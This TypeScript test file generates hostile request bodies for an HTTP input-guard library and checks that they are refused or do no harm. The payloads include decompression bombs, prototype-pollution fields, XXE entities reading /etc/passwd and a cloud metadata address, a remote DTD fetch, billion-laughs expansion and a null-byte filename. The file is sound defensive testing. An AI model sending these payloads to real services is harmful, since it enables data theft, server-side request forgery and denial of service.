import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { z } from 'zod';
import {
  brotli,
  deflate,
  form,
  gzip,
  multipart,
  ndjson,
  xml,
} from '../packages/guard/src/bodies/bodies.ts';
import type { AnySpec } from '../packages/guard/src/core/event.ts';
import { http } from '../packages/guard/src/http/http.ts';
import { type HostileEvent, httpEvent, INJECTIONS } from '../packages/guard/src/testing/testing.ts';
import { Order } from './attack-handlers.ts';

const Fields = z.object({
  orderId: z.string().regex(/^[A-Z]-\d{1,6}$/),
  note: z.string().max(500).optional(),
});
const Files = z.object({
  fields: Fields,
  files: z
    .array(
      z.object({
        field: z.literal('file'),
        name: z.string(),
        type: z.enum(['image/png', 'text/csv']),
      }),
    )
    .max(3),
});

/** A handler for each format of bodies. */
export const FORMATS: readonly { readonly name: string; readonly spec: AnySpec }[] = [
  { name: 'packed', spec: http({ body: Order, decode: [gzip(), deflate(), brotli()] }) },
  { name: 'form', spec: http({ body: Fields, read: [form()] }) },
  { name: 'multipart', spec: http({ body: Files, read: [multipart()] }) },
  { name: 'xml', spec: http({ body: z.object({ order: Fields }), read: [xml()] }) },
  { name: 'lines', spec: http({ body: z.array(Order).max(100), read: [ndjson()] }) },
];

type Sent = readonly [
  name: string,
  headers: Readonly<Record<string, string>>,
  body: string | Buffer,
  mustRefuse: boolean,
];

/** Hostile bodies of a format. Injected texts stand in the free field: they may pass, and must do nothing. */
export function bodyAttacks(format: string): readonly HostileEvent[] {
  return (MAKERS[format] ?? none)().map(([name, headers, body, mustRefuse]) => ({
    kind: 'encoding',
    trigger: 'http',
    name,
    mustRefuse,
    event: httpEvent({ method: 'POST', headers, body: Buffer.from(body as string) }),
  }));
}

const none = (): readonly Sent[] => [];
const texts = Object.values(INJECTIONS).flat();
const good = JSON.stringify({ orderId: 'A-17', amount: 3 });

const MAKERS: Readonly<Record<string, () => readonly Sent[]>> = {
  packed,
  form: forms,
  multipart: parts,
  xml: documents,
  lines,
};

function packed(): readonly Sent[] {
  const send = (name: string, encoding: string, body: Buffer): Sent => [
    name,
    { 'content-encoding': encoding },
    body,
    true,
  ];
  const blanks = Buffer.alloc(50_000_000, ' ');
  const padded = Buffer.concat([Buffer.from(good), Buffer.alloc(900_000, ' ')]);
  const packers = { gzip: gzipSync, deflate: deflateSync, br: brotliCompressSync };
  return Object.entries(packers).flatMap(([name, pack]): Sent[] => [
    send(`${name}: 50 MB of blanks`, name, pack(blanks)),
    send(`${name}: below the limit, far beyond the ratio`, name, pack(padded)),
    send(`${name}: cut off`, name, pack(good).subarray(0, -6)),
    send(`${name}: with something behind it`, name, Buffer.concat([pack(good), Buffer.from('a')])),
    send(`${name}: not packed at all`, name, Buffer.from(good)),
    send(`${name}: packed twice`, name, pack(pack(good))),
    send(
      `${name}: a name twice inside`,
      name,
      pack('{"orderId":"A-1","orderId":"A-2","amount":1}'),
    ),
    send(`${name}: no UTF-8 inside`, name, pack(Buffer.from([0x22, 0xff, 0x22]))),
    send(`${name}: under another name`, name === 'br' ? 'gzip' : 'br', pack(good)),
  ]);
}

function forms(): readonly Sent[] {
  const type = { 'content-type': 'application/x-www-form-urlencoded' };
  const bad: Readonly<Record<string, string>> = {
    'a prototype': 'orderId=A-1&__proto__=a',
    'a prototype, encoded': 'orderId=A-1&%5f%5fproto__=a',
    constructor: 'constructor=a&orderId=A-1',
    'a field twice': 'orderId=A-1&orderId=A-2',
    'a list': 'orderId[]=A-1',
    'an operator': 'orderId[$ne]=A-1',
    'broken percent': 'orderId=A-1&note=%',
    'overlong UTF-8': 'orderId=A-1&note=%c0%af',
    'half of a character': 'orderId=A-1&note=%ed%a0%80',
    '1,000 fields': 'a=b&'.repeat(1000),
    'a long name': `${'a'.repeat(5000)}=b`,
    'a long value': `orderId=A-1&note=${'a'.repeat(70_000)}`,
    'JSON instead': good,
  };
  return [
    ...Object.entries(bad).map(([name, body]): Sent => [name, type, body, true]),
    ...texts.map((text): Sent => [`id ${text.slice(0, 40)}`, type, pairs({ orderId: text }), true]),
    ...texts.map(
      (text): Sent => [
        `note ${text.slice(0, 40)}`,
        type,
        pairs({ orderId: 'A-1', note: text }),
        false,
      ],
    ),
  ];
}

function pairs(fields: Readonly<Record<string, string>>): string {
  return new URLSearchParams(fields).toString();
}

function parts(): readonly Sent[] {
  const type = { 'content-type': 'multipart/form-data; boundary=b' };
  const part = (head: string, body: string): string =>
    `--b\r\ncontent-disposition: form-data; ${head}\r\n\r\n${body}\r\n`;
  const id = part('name="orderId"', 'A-1');
  const file = (name: string, kind = 'image/png'): string =>
    part(`name="file"; filename="${name}"\r\ncontent-type: ${kind}`, 'x');
  const bad: Readonly<Record<string, string>> = {
    'a prototype': part('name="__proto__"', 'a') + id,
    'two names': part('name="orderId"; name="a"', 'A-1'),
    'two file names': id + part(`name="file"; filename="a"; filename*=UTF-8''b`, 'x'),
    'a head twice': part('name="orderId"\r\ncontent-disposition: form-data; name="a"', 'A-1'),
    'a folded head': part('\r\n name="orderId"', 'A-1'),
    'a transfer encoding': part('name="orderId"\r\ncontent-transfer-encoding: base64', 'QS0x'),
    'many files': id + file('a.png').repeat(50),
    'many fields': part('name="a"', 'b').repeat(500) + id,
    'a page as a file': id + file('a.html', 'text/html'),
    'a long head': id + part(`name="${'a'.repeat(9000)}"`, 'x'),
    'a preamble': `a\r\n${id}`,
    'a zero in a name': id + file('a.png\u0000.exe'),
  };
  const quoted = (text: string): string =>
    text.replace(/["\r\n]/g, encodeURIComponent).replaceAll('\\', '\\\\');
  return [
    ...Object.entries(bad).map(([name, body]): Sent => [name, type, `${body}--b--\r\n`, true]),
    ['no end', type, id, true],
    ['no boundary', { 'content-type': 'multipart/form-data' }, `${id}--b--`, true],
    ...texts.map(
      (text): Sent => [
        `file ${text.slice(0, 40)}`,
        type,
        `${id}${file(quoted(text.toWellFormed()))}--b--\r\n`,
        false,
      ],
    ),
    ...texts.map(
      (text): Sent => [
        `note ${text.slice(0, 40)}`,
        type,
        `${id}${part('name="note"', text)}--b--\r\n`,
        false,
      ],
    ),
  ];
}

function documents(): readonly Sent[] {
  const type = { 'content-type': 'application/xml' };
  const order = (note: string): string =>
    `<order><orderId>A-1</orderId><note>${note}</note></order>`;
  const entity = (declared: string, used: string): string =>
    `<!DOCTYPE order [${declared}]>${order(used)}`;
  const bad: Readonly<Record<string, string>> = {
    'an entity of a file': entity('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
    'an entity of an address': entity('<!ENTITY x SYSTEM "http://169.254.169.254/">', '&x;'),
    'a parameter entity': entity('<!ENTITY % x SYSTEM "http://203.0.113.66/a.dtd"> %x;', 'a'),
    'a public identifier': `<!DOCTYPE order PUBLIC "-//A//B" "http://203.0.113.66/a.dtd">${order('a')}`,
    laughs: entity('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">', '&c;'),
    'an entity nobody declared': order('&x;'),
    'a document type in small letters': `<!doctype order>${order('a')}`,
    'a document type behind a comment': `<!-- a --><!DOCTYPE order>${order('a')}`,
    'an instruction': `<?xml-stylesheet href="javascript:alert(1)"?>${order('a')}`,
    'another encoding': `<?xml version="1.0" encoding="UTF-16"?>${order('a')}`,
    'XML 1.1': `<?xml version="1.1"?>${order('a')}`,
    'deep elements': '<order>'.repeat(50_000),
    'many elements': `<order>${'<a/>'.repeat(30_000)}</order>`,
    'many attributes': `<order ${Array.from({ length: 30_000 }, (_, at) => `a${at}="b"`).join(' ')}/>`,
    'an attribute twice': '<order orderId="A-1" orderId="A-2"/>',
    'an id twice': '<order><orderId>A-1</orderId><orderId>A-2</orderId></order>',
    'a comment in the id': '<order><orderId>A-1<!-- -->;id</orderId></order>',
    'a prototype':
      '<order><__proto__><isAdmin>1</isAdmin></__proto__><orderId>A-1</orderId></order>',
    'a zero': order('&#0;'),
    'a code beyond all': order('&#x110000;'),
    'two roots': order('a') + order('b'),
    'a root that does not end': order('a').slice(0, -3),
  };
  const escaped = (text: string): string =>
    text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  return [
    ...Object.entries(bad).map(([name, body]): Sent => [name, type, body, true]),
    ...texts.map((text): Sent => [`raw ${text.slice(0, 40)}`, type, order(text), false]),
    ...texts.map((text): Sent => [`note ${text.slice(0, 40)}`, type, order(escaped(text)), false]),
  ];
}

function lines(): readonly Sent[] {
  const type = { 'content-type': 'application/x-ndjson' };
  const bad: Readonly<Record<string, string>> = {
    'a broken line': `${good}\n{`,
    'a name twice in the second line': `${good}\n{"orderId":"A-1","orderId":"A-2","amount":1}`,
    'a prototype in the last line': `${good}\n{"__proto__":{},"orderId":"A-1","amount":1}`,
    '2,000 lines': `${good}\n`.repeat(2000),
    'a deep line': `${good}\n${'['.repeat(99)}${']'.repeat(99)}`,
    'another separator': `${good}\u2028${good}`,
    'a list': `[${good}]`,
  };
  return Object.entries(bad).map(([name, body]): Sent => [name, type, body, true]);
}
